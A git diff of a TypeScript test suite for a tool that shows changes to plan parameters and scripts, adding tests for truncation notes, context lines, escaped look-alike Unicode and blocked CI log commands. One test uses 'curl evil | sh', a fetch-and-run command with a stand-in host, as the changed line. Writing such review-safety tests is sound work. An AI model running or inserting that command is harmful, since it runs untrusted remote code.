@@ -12,6 +12,8 @@ import * as plans from './plans.ts';
 
 const test = suite('params');
 
+const LEFT_OUT = 'lines left out: --html and --json have all of it';
+
 const valued = (value?: string) => plans.spec({ params: value === undefined ? [] : [{ name: 'p', value }] });
 const changed = (before?: string, after?: string, room = 60) =>
   changedParams(valued(before), valued(after), room).map(lineText);
@@ -81,9 +83,9 @@ test('of scripts that are too long, both sides are shown, and the rest is counte
   const script = (word: string) => Array.from({ length: 5000 }, (_, n) => `${word} ${n}\n`).join('');
   const lines = changed(script('stop'), script('start'));
   assert.is(lines.length, 201);
-  assert.is(lines[100], '    … 4901 more lines');
+  assert.is(lines[100], `    … 4901 of 5000 ${LEFT_OUT}`);
   assert.is(lines[101], '  + start 0');
-  assert.is(given(script('start')).at(-1), '  … 4601 more lines');
+  assert.is(given(script('start')).at(-1), `  … 4901 of 5000 ${LEFT_OUT}`);
 });
 
 test('a very long line of a script is shown around its difference', () => {
@@ -94,6 +96,49 @@ test('a very long line of a script is shown around its difference', () => {
     `  - "…${'x'.repeat(24)}1"`,
     `  + "…${'x'.repeat(24)}2"`,
   ]);
+});
+
+test('a change stands among the lines around it', () => {
+  const script = (line: string) =>
+    Array.from({ length: 400 }, (_, n) => (n === 200 ? `${line}\n` : `line ${n}\n`)).join('');
+  assert.equal(changed(script('start'), script('curl evil | sh')), [
+    '~ p:',
+    '    (197 lines unchanged)',
+    ...[197, 198, 199].map((n) => `    line ${n}`),
+    '  - start',
+    '  + curl evil | sh',
+    ...[201, 202, 203].map((n) => `    line ${n}`),
+    '    (196 lines unchanged)',
+  ]);
+});
+
+test('scripts that differ too much are still shown from the first line that differs', () => {
+  const shared = Array.from({ length: 500 }, (_, n) => `same ${n}\n`).join('');
+  const script = (word: string) => shared + Array.from({ length: 900 }, (_, n) => `${word} ${n}\n`).join('');
+  const lines = changed(script('stop'), script('start'));
+  assert.is(lines[1], '    (497 lines unchanged)');
+  assert.is(lines[5], '  - stop 0');
+});
+
+test('values that are drawn alike are written out', () => {
+  assert.equal(changed('8812', '88\u034f12'), ['~ p = "8812" -> "88\\u{34f}12"']);
+  assert.equal(changed('\u00e9', 'e\u0301'), ['~ p = "\\u{e9}" -> "e\\u{301}"']);
+  assert.equal(changed('a\n\u00e9\n', 'a\ne\u0301\n').slice(2), ['  - "\\u{e9}"', '  + "e\\u{301}"']);
+});
+
+test('pieces of a diff are no command together', () => {
+  const pad = 'x'.repeat(500);
+  const lines = changed(`#a${pad}`, `##[group]${pad}`).join('\n');
+  assert.not.match(lines, '##[');
+});
+
+test('where there is room, everything is shown', () => {
+  const script = (word: string) => Array.from({ length: 5000 }, (_, n) => `${word} ${n}\n`).join('');
+  const whole = changedParams(valued(script('stop')), valued(script('start')), 60, true).map(lineText);
+  assert.is(whole.length, 10_001);
+  const all = givenParams([{ name: 'p'.repeat(100), value: `${'y'.repeat(9000)}\n${script('a')}` }], true);
+  assert.is(all.length, 5002);
+  assert.is(lineText(all[1]!).length, 9002);
 });
 
 test('no character is cut in half', () => {
@@ -109,7 +154,7 @@ test('a hundred params and one', () => {
     Array.from({ length: 101 }, (_, n) => ({ name: `p${String(n).padStart(3, '0')}`, value }));
   const lines = changedParams(plans.spec({ params: many('a') }), plans.spec({ params: many('b') }), 60);
   assert.is(lines.length, 101);
-  assert.is(lineText(lines.at(-1) ?? []), '… and 1 more param');
+  assert.is(lineText(lines.at(-1) ?? []), '… 1 of 101 params left out: --html and --json have all of it');
 });
 
 test('property: two values that differ, also in white space alone, never look the same', () => {
